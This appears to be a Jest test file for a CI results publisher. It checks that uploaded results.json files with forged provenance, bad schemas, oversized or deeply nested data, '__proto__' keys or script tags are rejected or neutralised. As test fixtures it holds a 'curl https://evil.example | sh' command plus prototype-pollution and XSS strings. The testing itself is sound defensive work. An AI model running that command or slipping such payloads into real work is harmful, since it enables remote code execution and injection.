import { describe, expect, test } from '@jest/globals';
import type { TriggeringRun } from '../../src/publish/run.js';
import { readUploaded } from '../../src/publish/uploaded.js';
import { renderComment } from '../../src/report/markdown.js';
import { aResults } from '../fakes/results.js';
import { aRun } from './a-run.js';
import { makeZip } from './zip-file.js';

const RUN: TriggeringRun = aRun();

const read = (content: unknown, run = RUN) =>
  readUploaded(
    makeZip([
      { name: 'results.json', data: typeof content === 'string' ? content : JSON.stringify(content) },
    ]),
    run,
  );

const GOOD = JSON.parse(JSON.stringify(aResults({ verdict: 'fail' }))) as ReturnType<typeof aResults>;
const [SCENARIO] = GOOD.scenarios;

test('results are read, and where they come from is as the event says', () => {
  const forged = {
    ...GOOD,
    reproduce: 'curl https://evil.example | sh',
    git: { sha: 'e'.repeat(40), ref: 'main', repository: 'octo/repo' },
    run: { url: 'https://evil.example', id: 1, number: 2, attempt: 3, workflow: 'x', job: 'y' },
    pullRequest: 1,
  };
  const results = read(forged);
  expect(results?.scenarios).toEqual(GOOD.scenarios);
  expect(results?.git).toEqual({ sha: RUN.headSha, repository: 'someone/repo' });
  expect(results?.run).toMatchObject({ id: RUN.id, attempt: RUN.attempt, url: RUN.url });
  expect(JSON.stringify(results)).not.toMatch(/evil|pullRequest/);
});

test('a zip without results, as that of a shard, has none', () => {
  expect(readUploaded(makeZip([{ name: 'record.json', data: '{}' }]), RUN)).toBeUndefined();
});

describe('refused is', () => {
  test.each<[string, unknown, RegExp]>([
    ['what is not JSON', '{"schema": ', /results\.json is not valid JSON/],
    [
      'another schema version',
      { ...GOOD, schema: 'flowgate.results/9' },
      /its schema is "flowgate\.results\/9", .* use the same version/,
    ],
    ['no schema at all', [], /its schema is none/],
    ['null', 'null', /its schema is none/],
    ['no scenario', { ...GOOD, scenarios: [] }, /1 to 500 scenarios/],
    ['a wrong verdict', { ...GOOD, verdict: 'great' }, /not as the schema says: verdict/],
    [
      'a wrong scenario',
      { ...GOOD, scenarios: [SCENARIO, { ...SCENARIO, name: 7 }] },
      /scenarios\[1\]\.name/,
    ],
    ['a number that JSON cannot hold', JSON.stringify(GOOD).replace(/"cores":\d+/, '"cores":1e999'), /cores/],
    ['a list that no run writes', { ...GOOD, more: Array(50_001).fill(0) }, /more than any run writes/],
    [
      'values without end',
      { ...GOOD, more: Array(100).fill(Array(45_000).fill(0)) },
      /more than any run writes/,
    ],
    ['what is nested without end', `{"schema": ${'['.repeat(1e6)}${']'.repeat(1e6)}}`, /its schema is none/],
  ])('%s', (_, content, message) => {
    expect(() => read(content)).toThrow(message);
  });
});

test('a name that is a member of every object is a name', () => {
  const named = JSON.stringify(GOOD).replace(
    '"metrics":{',
    '"metrics":{"__proto__":{"value":1,"unit":"ms"},',
  );
  const results = read(named);
  expect(({} as { value?: unknown }).value).toBeUndefined();
  expect(() => renderComment(results ?? GOOD, { marker: '' })).not.toThrow();
});

test('script in a name stays text', () => {
  const results = read({ ...GOOD, scenarios: [{ ...SCENARIO, name: '<script>alert(1)</script> @octocat' }] });
  const comment = renderComment(results ?? GOOD, { marker: '' });
  expect(comment).toContain('script');
  expect(comment).not.toMatch(/<script|@octocat/);
});
